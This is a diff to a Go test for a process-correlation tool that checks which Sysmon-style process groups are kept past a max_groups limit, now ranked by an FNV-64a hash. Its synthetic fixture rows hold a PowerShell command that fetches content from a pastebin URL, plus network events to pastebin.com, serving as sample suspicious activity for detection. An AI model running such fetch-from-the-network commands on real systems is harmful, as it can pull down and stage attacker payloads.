@@ -3,6 +3,7 @@ package correlate_test
 import (
 	"context"
 	"fmt"
+	"hash/fnv"
 	"math/rand/v2"
 	"sort"
 	"strings"
@@ -14,7 +15,8 @@ import (
 )
 
 // TestMaxGroupsDeterministic: past max_groups the kept processes are the
-// max_groups smallest by (host, ProcessGuid), lower case, whatever the
+// max_groups smallest by FNV-64a of (host, NUL, ProcessGuid without
+// braces), lower case (a sample spread over the hosts), whatever the
 // order events arrive in and however they are spread over indexers; the
 // cut is reported.
 func TestMaxGroupsDeterministic(t *testing.T) {
@@ -22,17 +24,27 @@ func TestMaxGroupsDeterministic(t *testing.T) {
 	const processes, maxGroups = 60, 17
 	var rows [][]string
 	var keys []string
+	var ranks []uint64
 	for p := 0; p < processes; p++ {
 		host := fmt.Sprintf("WKS-%02d", p%7)
 		guid := fmt.Sprintf("{%08X-0000-0000-0000-%012d}", (p*7919)%1000, p)
 		keys = append(keys, strings.ToLower(host)+" "+strings.ToLower(guid))
+		ranks = append(ranks, fnvRank(strings.ToLower(host), strings.ToLower(strings.Trim(guid, "{}"))))
 		rows = append(rows, []string{"1", host, guid, fmt.Sprint(1700000000 + p), ps, fmt.Sprintf("powershell -c iwr https://pastebin.com/raw/p%d", p), `C:\Windows\explorer.exe`, "", "", "", ""})
 		for k := 0; k < 3; k++ {
 			rows = append(rows, []string{"3", host, guid, fmt.Sprint(1700000000 + p + 60*k), ps, "", "", "pastebin.com", "104.20.67.143", "", ""})
 		}
 	}
-	sort.Strings(keys)
-	want := keys[:maxGroups]
+	idx := make([]int, processes)
+	for i := range idx {
+		idx[i] = i
+	}
+	sort.Slice(idx, func(a, b int) bool { return ranks[idx[a]] < ranks[idx[b]] })
+	var want []string
+	for _, i := range idx[:maxGroups] {
+		want = append(want, keys[i])
+	}
+	sort.Strings(want)
 	base := table(eventFields, rows...)
 	args := []string{"all=true", fmt.Sprintf("max_groups=%d", maxGroups)}
 	tests := []struct {
@@ -71,9 +83,16 @@ func TestMaxGroupsDeterministic(t *testing.T) {
 			require.Equal(t, want, got, tt.reason)
 			var warned bool
 			for _, m := range res.Messages {
-				warned = warned || strings.Contains(m.Text, "smallest host and ProcessGuid")
+				warned = warned || strings.Contains(m.Text, "smallest by a hash of host and ProcessGuid")
 			}
 			require.True(t, warned, "the cut is reported, saying which are kept")
 		})
 	}
+}
+
+// fnvRank is the documented order of processes past max_groups.
+func fnvRank(host, guid string) uint64 {
+	h := fnv.New64a()
+	h.Write([]byte(host + "\x00" + guid))
+	return h.Sum64()
 }
